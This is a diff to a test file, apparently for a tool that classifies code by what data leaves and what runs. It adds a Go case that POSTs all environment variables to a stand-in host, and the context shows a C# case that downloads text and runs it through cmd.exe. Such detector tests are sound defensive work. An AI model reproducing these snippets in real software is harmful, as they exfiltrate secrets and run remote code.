@@ -37,6 +37,11 @@ describe('what leaves and what runs', () => {
       'env:* network:body h.test',
     ],
     [
+      'go',
+      'all := strings.Join(os.Environ(), "\\n")\nreq, _ := http.NewRequestWithContext(ctx, "POST", "https://h.test", strings.NewReader(all))',
+      'env:* network:body h.test',
+    ],
+    [
       'cs',
       'string got = new WebClient().DownloadString("https://h.test/x");\nProcess.Start("cmd.exe", "/c " + got);',
       'net shell:code h.test',
